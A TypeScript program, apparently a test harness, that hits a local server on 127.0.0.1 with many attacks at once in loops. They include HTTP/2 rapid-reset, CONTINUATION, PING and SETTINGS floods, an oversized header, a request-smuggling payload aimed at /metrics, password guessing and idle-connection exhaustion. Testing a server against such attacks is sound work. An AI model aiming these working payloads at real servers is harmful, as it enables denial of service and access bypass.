/*
 * A program: attacks the server on 127.0.0.1 at a port, in all ways at once, again and again until it is ended; says
 * "ready" when each way had its turn.
 *
 *     node attacker.ts PORT
 */
import { once } from "node:events";
import { request } from "node:https";
import { connect as connectPlain } from "node:net";
import { connect, type TLSSocket } from "node:tls";
import {
  CANCEL,
  CONTINUATION,
  END_HEADERS,
  END_STREAM,
  frame,
  GET,
  header,
  HEADERS,
  PING,
  PING_DATA,
  PREFACE,
  RST_STREAM,
  SETTINGS,
} from "../http/http2-frames.ts";

const port = Number(process.argv[2]);
const at = { host: "127.0.0.1", port, rejectUnauthorized: false };

/** A page, with the right password. */
const REQUEST = Buffer.concat([GET, header([0x0f, 0x08], basic("secret"))]);
const STREAMS = 2000;
const FRAMES = 1000;

function basic(password: string): string {
  return `Basic ${Buffer.from(`prometheus:${password}`).toString("base64")}`;
}

/** Sends this after the handshake, by HTTP/1.1 or HTTP/2, and waits until the server has had enough. */
async function speak(protocol: string, ...pieces: readonly (string | Buffer)[]): Promise<void> {
  const socket: TLSSocket = connect({ ...at, ALPNProtocols: [protocol] });
  socket.on("error", () => {}).resume();
  const closed = once(socket, "close");
  socket.once("secureConnect", () => {
    if (protocol === "h2") socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]));
    for (const piece of pieces) socket.write(piece);
    socket.end(() => socket.destroySoon());
  });
  await closed;
}

function resets(): Buffer[] {
  return Array.from({ length: STREAMS }, (_, index) =>
    Buffer.concat([
      frame(HEADERS, END_STREAM | END_HEADERS, 2 * index + 1, REQUEST),
      frame(RST_STREAM, 0, 2 * index + 1, CANCEL),
    ]),
  );
}

/** Headers that never end. */
function continuations(): Buffer[] {
  const more = header([0x00, 1, 0x78], "y".repeat(100));
  const first = frame(HEADERS, END_STREAM, 1, REQUEST);
  return [first, ...Array.from({ length: FRAMES }, () => frame(CONTINUATION, 0, 1, more))];
}

async function guess(): Promise<void> {
  const sent = request({
    ...at,
    path: "/metrics",
    headers: { Authorization: basic(`${Math.random()}`) },
    agent: false,
  });
  sent.end();
  const [response] = await once(sent, "response");
  response.resume();
  await once(response, "close");
}

/** A connection that says nothing, or half of a request. */
async function loiter(): Promise<void> {
  const socket = connectPlain(at);
  socket.on("error", () => {}).resume();
  const closed = once(socket, "close");
  if (Math.random() < 0.5) socket.write("\x16\x03\x01");
  await closed;
}

const SMUGGLED = "GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n";
const ATTACKS: readonly (() => Promise<void>)[] = [
  ...Array.from({ length: 8 }, () => guess),
  () => speak("h2", ...resets()),
  () => speak("h2", ...continuations()),
  () => speak("h2", ...Array.from({ length: FRAMES }, () => frame(PING, 0, 0, PING_DATA))),
  () => speak("h2", ...Array.from({ length: FRAMES }, () => frame(SETTINGS, 0, 0))),
  () => speak("http/1.1", `GET / HTTP/1.1\r\nHost: a\r\nPadding: ${"x".repeat(1_000_000)}\r\n\r\n`),
  () =>
    speak(
      "http/1.1",
      `POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n5c\r\n${SMUGGLED}`,
    ),
  () => speak("http/1.1", SMUGGLED.repeat(1000)),
];

async function repeat(attack: () => Promise<void>, hadItsTurn: () => void): Promise<never> {
  for (;;) {
    await attack().catch(() => {});
    hadItsTurn();
  }
}

for (let count = 0; count < 100; count++) void repeat(loiter, () => {});
await Promise.all(ATTACKS.map((attack) => new Promise<void>((resolve) => void repeat(attack, resolve))));
console.log("ready");
